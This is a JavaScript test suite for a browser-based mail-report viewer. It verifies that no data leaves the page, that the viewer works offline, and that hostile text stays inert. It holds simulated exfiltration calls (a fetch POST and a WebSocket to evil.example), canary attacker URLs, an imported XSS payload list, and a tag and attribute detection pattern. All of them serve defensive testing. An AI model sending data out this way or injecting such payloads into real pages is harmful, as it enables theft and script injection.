/**
 * Reports stay in the browser: what Chromium's network stack itself notes of every request of page, worker and service worker,
 * reading without a network, and what the page's policy would stop.
 */

import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";

import { PAGE } from "../../scripts/build.mjs";
import { startHelper } from "../lab/helper.mjs";
import { HOSTILE_TEXTS, hostileTexts } from "../reports/hostile.mjs";
import { asMail, asZip } from "../reports/wrap.mjs";
import { launch } from "./browser.mjs";
import { PAYLOADS } from "./hostile.mjs";
import { choose, give, openReports, pasteText, reportOf, sentence } from "./reports.mjs";

const CANARY = "canary8460";
/** The canary is in every text of it, and in its name. */
const SECRET = reportOf({
  domain: `${CANARY}.example`,
  sender: `${CANARY} Mail`,
  id: `${CANARY}-report`,
  policy: ["version: STSv1", "mode: enforce", `mx: ${CANARY}.example`, "max_age: 604800"],
  failures: [
    ["certificate-expired", `mx1.${CANARY}.example`, 3, { "additional-information": `https://evil.example/${CANARY}` }],
    [`${CANARY}-type`, `mx2.${CANARY}.example`, 2, { "failure-reason-code": `//evil.example/${CANARY}` }],
  ],
});
const FORMS = [
  SECRET,
  { name: `${CANARY}.zip`, bytes: asZip([SECRET]) },
  {
    name: `${CANARY}.eml`,
    bytes: asMail(
      { name: `${CANARY}!${CANARY}!1!2!3.json`, json: String(SECRET.bytes), organization: CANARY, domain: CANARY },
      { compressed: false },
    ),
  },
];

/** What the page is made of: a name may carry something away, too. */
const FILES = new Set(["/", ...readdirSync(PAGE, { recursive: true }).map((name) => `/${name}`)]);

/** How the log writes that there is none. */
const NOBODY = "not an origin";

let helper;
let browser;
before(async () => {
  helper = await startHelper();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await helper?.stop();
});

/** Reads the reports in every way, and does with them all that asks nobody. */
async function readAll(page) {
  await choose(page, ...FORMS);
  await give(page, "drop", SECRET);
  await give(page, "paste", SECRET);
  await pasteText(page, String(SECRET.bytes));
  for (const summary of await page.$$("#reports-result summary")) if (await summary.isVisible()) await summary.click();
  await page.click(".documents .opens >> nth=0");
  await page.waitForSelector(".opened .problems");
  for (const label of ["Sessions (CSV)", "Failures (CSV)", "All of it (JSON)"]) {
    await Promise.all([page.waitForEvent("download"), page.click(`text=${label}`)]);
  }
  assert.match(await sentence(page), /^Of 105 sessions from 1 sender on 24 November 2026, 5 failed/);
}

describe("nothing is uploaded", () => {
  test("all that leaves the browser are requests for the page's own files", async (t) => {
    const folder = mkdtempSync(join(tmpdir(), "netlog-"));
    const file = join(folder, "net.json");
    const noted = await launch(`--log-net-log=${file}`, "--net-log-capture-mode=Everything");
    t.after(() => noted.close());
    const { page, context, problems } = await openReports(noted, helper.origin);
    await page.waitForFunction(() => navigator.serviceWorker.ready.then(() => true));
    await readAll(page);
    await context.close();
    await noted.close();

    const log = readFileSync(file, "utf8");
    rmSync(folder, { recursive: true });
    const { constants, events } = JSON.parse(log);
    const { URL_REQUEST_START_JOB: start } = constants.logEventTypes;
    const requests = events.flatMap(({ type, params }) => (type === start && params?.url ? [params] : []));
    const own = requests.filter(({ url }) => new URL(url).origin === helper.origin);
    assert.ok(own.length > 10, "the log has the page's own requests");
    assert.ok(
      own.some(({ url, initiator }) => /reports.*\.wasm$/.test(url) && initiator === helper.origin),
      "and those of the worker, with who asked",
    );
    assert.ok(
      own.some(({ url }) => url.endsWith("/licenses.txt")),
      "and those of the service worker: nobody else asks for this file",
    );
    // What the browser asks for itself, about its own updates and the like, has no initiator; whatever a page or a worker asks has.
    const ofPage = requests.filter(
      ({ url, initiator }) => own.some((request) => request.url === url) || initiator !== NOBODY,
    );
    assert.deepEqual(
      ofPage.filter(({ method, url }) => method !== "GET" || !isOwnFile(url)).map(({ method, url }) => [method, url]),
      [],
    );
    // Neither in an address nor in a header field nor in what went over any connection.
    const hidden = [CANARY, Buffer.from(CANARY).toString("base64").slice(0, 12), Buffer.from(CANARY).toString("hex")];
    const sent = events.map(({ params }) => Buffer.from(params?.bytes ?? "", "base64").toString("latin1")).join("\n");
    assert.match(sent, /^GET \/ HTTP/m, "what goes over connections can be read in it");
    for (const text of hidden) assert.ok(!log.includes(text) && !sent.includes(text), `“${text}” is in the log`);
    // Last: the log has to tell of a request whatever became of it.
    assert.deepEqual(problems, []);
  });

  const isOwnFile = (url) => {
    const { origin, pathname, search } = new URL(url);
    return origin === helper.origin && search === "" && FILES.has(pathname);
  };

  test("it works without a network", async () => {
    const { page, context, close } = await openReports(browser, helper.origin);
    // Once loaded, as after a first report.
    await choose(page, SECRET);
    await page.click("text=Start anew");
    await context.setOffline(true);
    await readAll(page);
    await close();
  });

  test("the policy of page and worker lets nothing else out", async () => {
    const { page, context } = await openReports(browser, helper.origin);
    await choose(page, SECRET);
    const send = async () => {
      const tries = {
        fetch: () => fetch("https://evil.example/", { method: "POST", body: "x" }),
        socket: () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket("wss://evil.example/");
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
      };
      const blocked = [];
      addEventListener("securitypolicyviolation", ({ violatedDirective }) => blocked.push(violatedDirective));
      const outcomes = {};
      for (const [name, attempt] of Object.entries(tries)) {
        outcomes[name] = await attempt().then(
          () => "sent",
          () => "refused",
        );
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { outcomes, blocked };
    };
    const [worker] = page.workers();
    for (const place of [page, worker]) {
      const { outcomes, blocked } = await place.evaluate(send);
      assert.deepEqual(outcomes, { fetch: "refused", socket: "refused" });
      assert.deepEqual([...new Set(blocked)], ["connect-src"]);
      assert.ok(blocked.length >= 2);
    }
    await context.close();
  });
});

describe("text of strangers stays text", () => {
  /** What no view of the page is made of, and what must not lead anywhere. */
  function foreign() {
    const TAGS =
      "script:not([src]), img, iframe, object, embed, base, style, video, audio, math, marquee, xss, form[action]";
    const found = [...document.querySelectorAll(TAGS)].map((element) => element.outerHTML.slice(0, 120));
    for (const element of document.querySelectorAll("#reports-view *")) {
      for (const { name, value } of element.attributes) {
        const leads = ["href", "src", "action", "xlink:href"].includes(name) && !value.startsWith("#d=");
        if (name.startsWith("on") || name === "srcdoc" || leads) found.push(`${element.localName} ${name}=${value}`);
      }
    }
    if ("pwned" in globalThis || "pwned" in Object.prototype) found.push("a script ran");
    return found;
  }

  test("in every member of a report, and in the names of files", async () => {
    const { page, problems, close } = await openReports(browser, helper.origin);
    page.on("dialog", (dialog) => problems.push(dialog.message()));
    for (const payload of PAYLOADS) {
      const more = Object.fromEntries(
        ["sending-mta-ip", "receiving-ip", "additional-information", "failure-reason-code"].map((name) => [
          name,
          payload,
        ]),
      );
      const report = reportOf({
        domain: payload,
        sender: payload,
        type: payload,
        policy: [payload],
        failures: [
          [payload, payload, 3, more],
          ["certificate-expired", payload, 2, more],
        ],
      });
      const broken = { name: payload.replaceAll("/", "∕"), bytes: Buffer.from(`{"organization-name": ${payload}`) };
      await page.evaluate(() => (document.querySelector("#reports-result").hidden = true));
      await give(page, "drop", { ...report, name: payload.replaceAll("/", "∕") }, broken);
      await page.evaluate(() => {
        for (const fold of document.querySelectorAll("#reports-result details")) fold.open = true;
      });
      await page.waitForSelector(".meaning > *");
      const text = await page.textContent("#reports-result");
      assert.ok(text.includes(payload.slice(0, 12)), payload);
      assert.deepEqual(await page.evaluate(foreign), [], payload);
      await page.click("text=Start anew");
    }
    await close();
  });

  test("what cannot be seen is written out, and nothing reorders its neighbours", async () => {
    const { page, close } = await openReports(browser, helper.origin);
    await choose(page, ...hostileTexts().map(({ bytes }, number) => ({ name: `${number}.json`, bytes })));
    await page.evaluate(() => {
      for (const fold of document.querySelectorAll("#reports-result details")) fold.open = true;
    });
    const text = await page.textContent("#reports-result");
    assert.ok(HOSTILE_TEXTS.some((hostile) => hostile.includes("\u202e")));
    assert.match(text, /example\\u\{202e\}moc\.elpmaxe/);
    assert.match(text, /\\u\{1b\}\[31mred/);
    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
    await close();
  });
});
